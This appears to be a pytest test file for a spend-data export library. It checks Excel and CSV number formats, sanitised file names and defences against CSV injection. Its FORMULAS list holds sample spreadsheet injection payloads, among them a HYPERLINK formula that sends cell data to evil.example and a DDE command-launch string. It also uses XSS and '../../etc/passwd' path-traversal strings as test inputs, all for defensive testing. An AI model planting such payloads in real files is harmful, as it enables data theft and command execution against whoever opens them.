"""Tables out to Excel: workbooks with real numbers and number formats, frozen filtered headers, CSV at full
precision, and text from input files that no spreadsheet runs as a formula (CSV injection)."""

from __future__ import annotations

import io
import json
import subprocess
import sys
import zipfile

import openpyxl
import pandas as pd
import pytest

from anchorlib.export import (
    NUMBER_FORMATS,
    Sheet,
    choices_sheet,
    csv_bytes,
    file_name,
    sheet_names,
    xlsx_bytes,
)
from anchorlib.paths import SAMPLE_DIR
from anchorlib.reports import workbook as wbk
from tests.builders import supplier, tiny_dataset

#: text as a spend file could carry it, each a formula if a spreadsheet took it as one
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def _book(data: bytes):
    return openpyxl.load_workbook(io.BytesIO(data))


def _no_formula_in(data: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name


def test_a_workbook_holds_real_numbers_with_number_formats_under_a_frozen_filtered_header():
    sheet = Sheet(
        "figures",
        ["Anchor", "Spend (£)", "Share", "Suppliers", "Index", "LM3", "Below 80", "Note"],
        ["text", "money", "pct", "count", "index", "ratio", "flag", "text"],
        [
            ["Hackney", 1234567.891, 0.11709525837889065, 42, 72.5, 1.1194512428726562, True, None],
            ["Credit", -250.0, None, 0, None, None, False, "n/a"],
        ],
    )
    data = xlsx_bytes([sheet], "test")
    ws = _book(data)["figures"]
    assert ws.freeze_panes == "A2" and ws.auto_filter.ref == "A1:H3"
    assert [c.value for c in ws[1]] == sheet.columns and all(c.font.bold for c in ws[1])
    row = ws[2]
    assert [c.value for c in row] == sheet.rows[0][:7] + [None]  # the very figures, to the last digit
    assert [c.number_format for c in row][1:6] == ['"£"#,##0.00', "0.0%", "#,##0", "0", "0.00"]
    assert row[1].data_type == "n" and row[6].data_type == "b"
    credit = ws[3]
    assert credit[1].value == -250.0 and credit[1].data_type == "n"  # a negative amount is a number
    assert credit[2].value is None and credit[7].value == "n/a"
    _no_formula_in(data)


@pytest.mark.parametrize("text", FORMULAS)
def test_text_that_looks_like_a_formula_stays_text_in_a_workbook(text):
    sheet = Sheet("t", [text, "Spend"], ["text", "money"], [[text, 1.0], ["plain", 2.0]])
    data = xlsx_bytes([sheet])
    ws = _book(data)["t"]
    for cell in (ws["A1"], ws["A2"]):  # shown as written (XML reads a carriage return as a line feed)
        assert cell.value == text.replace("\r", "\n") and cell.data_type == "s" and cell.quotePrefix
    assert ws["A3"].value == "plain" and not ws["A3"].quotePrefix
    _no_formula_in(data)


def test_a_csv_for_excel_neutralises_formulas_and_keeps_full_precision():
    sheet = Sheet(
        "t",
        ["Supplier", "Spend (£)", "Share", "Below 80"],
        ["text", "money", "pct", "flag"],
        [[f, -12.5, 0.11709525837889065, True] for f in FORMULAS] + [["Café £ Ltd", None, None, None]],
    )
    raw = csv_bytes(sheet)
    assert raw.startswith(b"\xef\xbb\xbf") and b"\r\n" in raw  # UTF-8 with BOM, CRLF
    back = pd.read_csv(io.BytesIO(raw), encoding="utf-8-sig", keep_default_na=False, dtype=str)
    assert back["Supplier"].tolist() == ["'" + f for f in FORMULAS] + ["Café £ Ltd"]
    assert back["Spend (£)"].tolist()[:2] == ["-12.5", "-12.5"]  # numbers are numbers, negative or not
    assert back["Share"].iloc[0] == "0.11709525837889065" and back["Below 80"].iloc[0] == "TRUE"
    assert back.iloc[-1].tolist() == ["Café £ Ltd", "", "", ""]


def test_numpy_and_pandas_values_are_written_as_the_numbers_they_are():
    import numpy as np

    row = [np.float64(0.1), np.int64(7), np.bool_(True), pd.NA, np.nan, pd.NaT, np.float32(0.5)]
    sheet = Sheet("t", list("abcdefg"), ["pct", "count", "flag", "money", "money", "date", "number"], [row])
    ws = _book(xlsx_bytes([sheet]))["t"]
    assert [c.value for c in ws[2]] == [0.1, 7, True, None, None, None, 0.5]
    assert [c.data_type for c in ws[2]][:3] == ["n", "n", "b"]
    back = pd.read_csv(io.BytesIO(csv_bytes(sheet)), encoding="utf-8-sig", dtype=str, keep_default_na=False)
    assert back.iloc[0].tolist() == ["0.1", "7", "TRUE", "", "", "", "0.5"]


def test_frames_sheet_names_and_file_names():
    df = pd.DataFrame(
        {"Year": ["2023-24"], "Spend": [1.5], "n": pd.array([3], dtype="Int64"), "ok": [True]}
    ).astype({"n": "int64"})
    s = Sheet.from_frame("a/b:c", df, {"Spend": "money"})
    assert s.kinds == ["text", "money", "count", "flag"] and s.rows == [["2023-24", 1.5, 3, True]]
    assert Sheet.from_json(json.loads(json.dumps(s.to_json()))) == s
    long = "x" * 40
    assert sheet_names([s, Sheet("A-B-C", [], []), Sheet(long, [], []), Sheet(long, [], [])]) == [
        "a-b-c",
        "A-B-C (2)",
        "x" * 31,
        "x" * 27 + " (2)",
    ]
    assert file_name(["leakage", "top suppliers", '<img src=x onerror="1">', "2023-24", None], "csv") == (
        "leakage_top-suppliers_img-src-x-onerror-1_2023-24.csv"
    )
    assert (
        file_name(["../../etc/passwd"], "xlsx") == "etc-passwd.xlsx" and file_name([], "csv") == "table.csv"
    )
    with pytest.raises(ValueError, match="unknown kind"):
        Sheet("t", ["a"], ["pounds"])
    assert set(NUMBER_FORMATS) >= {"money", "pct", "count", "index", "ratio", "flag", "text"}
    assert choices_sheet({"area": "home", "anchors": ["a", "b"]}).rows == [
        ["area", "home"],
        ["anchors", "a; b"],
    ]


def _cli(*args) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "anchorlib.cli", *args], capture_output=True, text=True)


def _numbers(obj) -> int:
    """How many numbers (not flags) a JSON value holds."""
    if isinstance(obj, dict):
        return sum(_numbers(v) for v in obj.values())
    if isinstance(obj, list):
        return sum(_numbers(v) for v in obj)
    return int(isinstance(obj, (int, float)) and not isinstance(obj, bool))


def _rows(ws) -> list[dict]:
    values = [[c.value for c in row] for row in ws.iter_rows()]
    return [dict(zip(values[0], r)) for r in values[1:]]


def test_summary_xlsx_holds_every_number_of_summary_json(tmp_path):
    """The --xlsx workbook, opened with openpyxl: every figure of --json in its cell, no other number,
    money and shares formatted as such, frozen headers, the choices sheet; a second run (from the stored
    result) writes the same."""
    book = tmp_path / "summary.xlsx"
    run = _cli("summary", "--data", str(SAMPLE_DIR), "--json", "--xlsx", str(book))
    assert run.returncode == 0, run.stderr
    names = ["anchors", "network", "groups", "grants", "grant files", "other currencies", "choices"]
    assert run.stderr.strip() == f"anchorlib: wrote {book} (sheets: {', '.join(names)})"
    result = json.loads(run.stdout)  # stdout is the JSON alone
    wb = openpyxl.load_workbook(book)
    assert wb.sheetnames == names  # the sample has grants: three sheets of them
    assert all(ws.freeze_panes == "A2" for ws in wb)
    checked = 0
    anchors = _rows(wb["anchors"])
    assert len(anchors) == len(result["anchors"])
    for got, want in zip(anchors, result["anchors"]):
        for path, label, _ in wbk.ANCHOR_COLUMNS:
            value = wbk._at(want, path)
            assert got[label] == value, (want["anchor_id"], path)
            checked += _numbers(value)
    network = _rows(wb["network"])[0]
    for key, label, _ in wbk.NETWORK_COLUMNS:
        assert network[label] == result["network"][key], key
        checked += _numbers(result["network"][key])
    groups = {(r["Anchor id"], r["Group key"]): r for r in _rows(wb["groups"])}
    for a in result["anchors"]:
        for g, figures in a["groups"].items():
            for key, label, _ in wbk.GROUP_COLUMNS:
                assert groups[(a["anchor_id"], g)][label] == figures[key], (a["anchor_id"], g, key)
                checked += _numbers(figures[key])
    for got, want in zip(anchors, result["anchors"]):
        assert got["VCSE share of spend and grants"] == want["vcse_share_of_spend_and_grants"]
        checked += _numbers(want["vcse_share_of_spend_and_grants"])
    flows = {(r["Anchor id"], r["Money"]): r for r in _rows(wb["grants"])}
    files = {r["Anchor id"]: r for r in _rows(wb["grant files"])}
    other = {(r["Anchor id"], r["Currency"]): r for r in _rows(wb["other currencies"])}
    for a in result["anchors"]:
        for block, money in (("grants", "grants"), ("spend_and_grants", "spend and grants")):
            for key, label, _ in wbk.FLOW_COLUMNS:
                assert flows[(a["anchor_id"], money)][label] == a[block][key], (a["anchor_id"], block, key)
                checked += _numbers(a[block][key])
        for path, label, _ in wbk.GRANT_FILE_COLUMNS:
            value = wbk._at_key(a, path)
            assert files[a["anchor_id"]][label] == value, (a["anchor_id"], path)
            checked += _numbers(value)
        for cur, v in a["grants"]["other_currencies"].items():
            row = other[(a["anchor_id"], cur)]
            assert (row["Grants"], row["Amount (in that currency)"]) == (v["grants"], v["amount"])
            checked += _numbers(v)
    assert other[("city_of_london", "EUR")]["Amount (in that currency)"] == 25_000
    assert checked == _numbers(result)  # every number of the JSON was found in the workbook
    cells = [
        c
        for ws in wb
        for row in ws.iter_rows(min_row=2)
        for c in row
        if c.data_type == "n" and c.value is not None
    ]
    assert len(cells) == checked  # and the workbook holds no other
    formats = {c.number_format for c in wb["anchors"]["D"][1:]} | {
        c.number_format for c in wb["anchors"]["H"][1:]
    }
    assert formats == {'"£"#,##0.00', "0.0%"}
    choices = dict(r for r in (tuple(c.value for c in row) for row in wb["choices"].iter_rows(min_row=2)))
    assert {k: choices[k] for k in result["choices"]} == result["choices"]
    assert choices["dataset"] == str(SAMPLE_DIR.resolve())
    again = tmp_path / "again.xlsx"
    assert _cli("summary", "--data", str(SAMPLE_DIR), "--xlsx", str(again)).returncode == 0
    assert [[[c.value for c in r] for r in ws.iter_rows()] for ws in openpyxl.load_workbook(again)] == [
        [[c.value for c in r] for r in ws.iter_rows()] for ws in wb
    ]


def test_summary_xlsx_keeps_names_that_look_like_formulas_as_text(tmp_path):
    root = tiny_dataset(
        tmp_path / "ds",
        anchors=[["a1", FORMULAS[0], "council", "E09000012"], ["a2", "@SUM(9)", "council", "E09000001"]],
        suppliers=[supplier("Near Ltd", "E8 1AA")],
        spend={
            "a1": [("Goods", "2023-05-01", 100.0, "Near Ltd")],
            "a2": [("Goods", "2023-05-01", 40.0, "Near Ltd")],
        },
    )
    book = tmp_path / "s.xlsx"
    run = _cli("summary", "--data", str(root), "--xlsx", str(book))
    assert run.returncode == 0, run.stderr
    raw = book.read_bytes()
    _no_formula_in(raw)
    ws = _book(raw)["anchors"]
    assert [(c.value, c.data_type, bool(c.quotePrefix)) for c in ws["B"][1:]] == [
        (FORMULAS[0], "s", True),
        ("@SUM(9)", "s", True),
    ]


@pytest.mark.parametrize(
    "name,message",
    [
        ("out.csv", "the workbook's name must end in .xlsx"),
        ("missing/out.xlsx", "there is no folder"),
    ],
)
def test_summary_xlsx_to_a_bad_path_is_one_line(tmp_path, name, message):
    run = _cli("summary", "--data", str(SAMPLE_DIR), "--xlsx", str(tmp_path / name))
    assert run.returncode == 2 and run.stdout == ""
    lines = run.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("anchorlib: error: --xlsx ") and message in lines[0]
